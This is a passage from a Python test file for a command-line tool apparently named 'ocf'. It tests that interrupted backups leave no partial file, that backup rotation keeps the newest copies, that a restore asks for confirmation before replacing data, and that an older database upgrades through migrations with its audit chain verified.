        assert child.stdout.readline().strip() == "copying"  # mid-backup
        child.send_signal(signal.SIGKILL)
        child.wait()
    assert not target.exists()
    assert invoke("backup", str(target), "--db", str(db)).exit_code == 0
    assert Store.open(target).sites.get_site("R2999") is not None


def test_backups_rotate_and_a_restore_says_what_it_replaces(tmp_path: Path) -> None:
    """A timer's backup keeps the newest N; a restore names what it replaces and asks first
    (issue 34)."""
    from datetime import UTC, datetime, timedelta

    from ocf.backups import backup_name, rotate

    db = tmp_path / "ocf.db"
    Store.open(db).sites.add_sites([Site("RX1", "Trust")], "t")
    folder = tmp_path / "backups"
    folder.mkdir()
    (folder / "notes.txt").write_text("not a backup: never touched")
    start = datetime(2026, 12, 1, tzinfo=UTC)
    for day in range(4):  # four older backups, one a day
        (folder / backup_name(start + timedelta(days=day))).write_bytes(b"old")
    made = invoke("backup", str(folder), "--keep", "3", "--db", str(db))
    assert made.exit_code == 0, made.output
    kept = sorted(p.name for p in folder.glob("ocf-*.db"))
    assert len(kept) == 3 and "ocf-20261203-000000.db" in kept  # the two oldest went
    assert (folder / "notes.txt").exists()
    assert rotate(folder, 10) == []
    assert invoke("backup", str(tmp_path / "x.db"), "--keep", "2", "--db", str(db)).exit_code == 2
    newest = folder / kept[-1]
    asked = invoke("restore", str(newest), "--db", str(db))  # no answer: nothing restored
    assert asked.exit_code == 1 and "This replaces" in asked.output and "1 site" in asked.output
    assert "nothing was restored" in asked.output
    done = CliRunner().invoke(main, ["restore", str(newest), "--db", str(db)], input="y\n")
    assert done.exit_code == 0 and "Restored from" in done.output


def test_a_database_of_the_previous_release_upgrades_explicitly(tmp_path: Path) -> None:
    """The upgrade procedure (deployment.md, Upgrading; issue 34): check, back up, migrate,
    verify. The database is one the previous release made (its steps up to 0014)."""
    import sqlite3

    from sqlite_utils import Database

    from ocf.audit_chain import FIELDS, GENESIS, entry_hash
    from ocf.migrations import migrations

    path = tmp_path / "old.db"
    old = Database(sqlite3.connect(path))
    migrations.apply(old, stop_before="0015_browser_binding")
    old.execute(
        "INSERT INTO sites (code, name, kind, created_at) "
        "VALUES ('RX1', 'Trust one', 'trust', '2026-11-01')"
    )
    entry = dict(zip(FIELDS, [1, "2026-11-01T09:00:00+00:00", "admin:1:Ada", "add", "site",
                              "RX1", None, '{"name": "Trust one"}'], strict=True))  # fmt: skip
    old.execute(
        f"INSERT INTO audit ({', '.join(FIELDS)}, hash) VALUES ({', '.join('?' * 9)})",
        [*entry.values(), entry_hash(GENESIS, entry)],
    )
    old.conn.commit()
    old.close()
    check = invoke("migrate", "--check", "--db", str(path))
    assert check.exit_code == 1 and "0015_browser_binding" in check.output
    assert "0018_detention_totals" in check.output
    assert invoke("backup", str(tmp_path / "before-upgrade.db"), "--db", str(path)).exit_code == 0
    done = invoke("migrate", "--db", str(path))
    assert done.exit_code == 0 and "Applied: 0015_browser_binding" in done.output
    assert invoke("migrate", "--check", "--db", str(path)).output.strip() == (
        "The schema is up to date."
    )
    verified = invoke("audit", "--verify", "--db", str(path))
    assert verified.exit_code == 0 and "intact" in verified.output
    assert Store.open(path).sites.get_site("RX1").name == "Trust one"
